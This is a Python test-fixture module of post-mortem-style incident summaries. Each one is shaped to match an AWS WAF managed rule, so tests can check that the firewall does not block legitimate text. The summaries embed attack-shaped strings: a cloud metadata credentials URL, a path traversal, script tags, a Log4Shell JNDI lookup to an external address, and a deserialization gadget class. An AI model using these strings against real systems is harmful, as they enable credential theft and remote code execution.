"""Legitimate incident text shaped like what AWS's Core rule set body rules look for.

Post-mortems quote metadata endpoints, relative paths, HTML error pages and URLs with IP
addresses as a matter of course; each finding below is written the way such a
post-mortem sentence is (our own wording), labelled with the Core rule set rule its shape
exercises (rule names from
https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-baseline.html:
the Core rule set, and the Known bad inputs group's body rules).
The stack must not block these bodies (tests/infra/test_edge_firewall.py), and Grandbo
must store and find them (tests/e2e/test_edge_parity.py).
"""

from __future__ import annotations

from dataclasses import dataclass

CORE = "AWSManagedRulesCommonRuleSet"
KNOWN_BAD_INPUTS = "AWSManagedRulesKnownBadInputsRuleSet"


@dataclass(frozen=True)
class LegitimateFinding:
    group: str  # the managed rule group
    rule: str
    title: str
    summary: str
    topic: str  # how an investigator would later ask for it


LEGITIMATE_FINDINGS = (
    LegitimateFinding(
        CORE,
        "EC2MetaDataSSRF_BODY",
        "Instance metadata throttled credential refresh",
        "Workers polled http://169.254.169.254/latest/meta-data/iam/security-credentials/ "
        "on every request; IMDS throttled them and S3 uploads failed with expired tokens.",
        "uploads failed because workers hammered the instance metadata service for credentials",
    ),
    LegitimateFinding(
        CORE,
        "GenericLFI_BODY",
        "Config reload read a stale nginx include",
        "The reload script resolved ../../etc/nginx/nginx.conf relative to the release "
        "folder, loaded the previous upstream list and sent traffic to drained hosts.",
        "nginx reload sent traffic to drained upstream hosts from an old configuration file",
    ),
    LegitimateFinding(
        CORE,
        "GenericRFI_BODY",
        "Health check pointed at a decommissioned address",
        "The load balancer probed http://10.0.3.7:8080/healthz?target=http://10.0.9.12/status "
        "after the host was replaced, marked the pool unhealthy and shed all traffic.",
        "the load balancer marked the pool unhealthy because its health check hit an old address",
    ),
    LegitimateFinding(
        CORE,
        "CrossSiteScripting_BODY",
        "CDN served the origin's HTML error page as JSON",
        'Clients received <html><head><title>502 Bad Gateway</title></head><body onload="x()">'
        "<script>retry()</script></body></html> with a 200 status, and the mobile app "
        "crashed parsing it.",
        "the mobile app crashed parsing an HTML bad gateway page the CDN returned with 200",
    ),
    LegitimateFinding(
        KNOWN_BAD_INPUTS,
        "Log4JRCE_BODY",
        "Log4Shell probes reached the search cluster's logs",
        "Scanners sent User-Agent ${jndi:ldap://198.51.100.7:1389/a} to the search API; the "
        "log4j 2.14 logger in the indexing service resolved the lookup until patched to 2.17.",
        "the indexing service resolved log4j jndi lookups from scanner user agents",
    ),
    LegitimateFinding(
        KNOWN_BAD_INPUTS,
        "JavaDeserializationRCE_BODY",
        "Session replication failed on a deserialization filter",
        "After the JDK upgrade, java.io.ObjectInputStream rejected "
        "org.apache.commons.collections.functors.InvokerTransformer in replicated sessions "
        "and the cluster dropped every user's session.",
        "the cluster dropped sessions because the deserialization filter rejected a class",
    ),
)
